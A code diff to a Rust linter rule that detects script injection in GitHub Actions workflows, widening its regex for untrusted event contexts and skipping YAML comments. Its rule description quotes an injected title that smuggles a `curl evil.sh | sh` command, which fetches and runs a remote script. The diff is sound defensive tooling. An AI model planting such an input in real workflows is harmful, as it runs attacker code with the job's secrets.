@@ -23,7 +23,7 @@ fn is_actions_file(file: &FileDiff) -> bool {
 /// author names and e-mails.
 static UNTRUSTED: LazyLock<Regex> = LazyLock::new(|| {
     Regex::new(
-        r"\$\{\{[^}]*?\b(?:github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|discussion_comment\.body|pages\.[^}\s]*?\.page_name|commits\.[^}\s]*?\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|pull_requests\.[^}\s]*?\.head\.ref))|github\.head_ref)\b[^}]*\}\}",
+        r"\$\{\{[^}]*?(?:\b(?:github\.event\.(?:issue\.(?:title|body)|pull_request\.(?:title|body|head\.ref|head\.label|head\.repo\.default_branch)|comment\.body|review\.body|review_comment\.body|discussion\.(?:title|body)|discussion_comment\.body|pages[.\[][^}\s]*?\.page_name|commits[.\[][^}\s]*?\.(?:message|author\.(?:email|name))|head_commit\.(?:message|author\.(?:email|name))|workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|pull_requests[.\[][^}\s]*?\.head\.ref))|github\.head_ref)\b|(?i:\btojson)\s*\(\s*github\.event\b)[^}]*\}\}",
     )
     .expect("compiles")
 });
@@ -44,7 +44,8 @@ static SCRIPT_META: RuleMeta = RuleMeta {
     severity: Severity::Critical,
     description: "Catches `${{ }}` expressions over contexts an outside contributor controls \
 (issue and pull request titles and bodies, comments, review bodies, head branch names, commit \
-messages, author names and e-mails) inside a `run:` script or an `actions/github-script` \
+messages, author names and e-mails, or the whole event through `toJSON(github.event...)`) inside \
+a `run:` script or an `actions/github-script` \
 `script:`. The runner pastes the value into the script before the shell parses it, so a title \
 like `a\"; curl evil.sh | sh; \"` runs with the job's token and secrets.\n\n\
 Fix: pass the value through an environment variable and quote it in the script: \
@@ -98,6 +99,10 @@ impl Rule for ScriptInjection {
                     } else if line.kind == LineKind::Added && UNTRUSTED.is_match(value) {
                         flag(file, line.new_line, text, out);
                     }
+                    continue;
+                }
+                if text.trim_start().starts_with('#') {
+                    // A YAML comment outside a script: prose, even when it quotes a script.
                     continue;
                 }
                 if !blank && MAPPING.is_match(text) {
